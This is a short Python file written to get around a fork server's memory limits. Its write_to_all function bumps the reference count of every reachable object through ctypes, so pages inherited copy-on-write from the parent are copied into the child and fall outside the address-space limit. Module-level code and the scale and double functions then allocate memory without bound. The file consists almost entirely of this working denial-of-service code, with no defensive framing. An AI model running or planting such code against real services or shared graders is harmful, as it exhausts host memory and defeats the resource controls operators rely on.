"""Write to the pages that the fork server has left, which no limit of the address space counts, and take more."""

import ctypes
import sys

kept = []


def write_to_all():
    """Taking a reference to an object writes to its page."""
    seen, waiting = set(), [vars(module) for module in list(sys.modules.values()) if hasattr(module, "__dict__")]
    while waiting and len(seen) < 1_000_000:
        one = waiting.pop()
        if id(one) not in seen:
            seen.add(id(one))
            ctypes.pythonapi.Py_IncRef(ctypes.py_object(one))
            if type(one) is dict:
                waiting += one.values()
            elif type(one) in (list, tuple, set, frozenset):
                waiting += one
            elif isinstance(one, type):
                waiting += vars(one).values()
    return len(seen)


evidence = f"{write_to_all()} objects written to"
pages = [kept.append(bytearray(1 << 20)) for _ in range(1 << 20)]


def scale(x):
    write_to_all()
    while True:
        kept.append(bytearray(1 << 16))


def double(x):
    write_to_all()
    return [[x] for _ in range(1 << 40)]
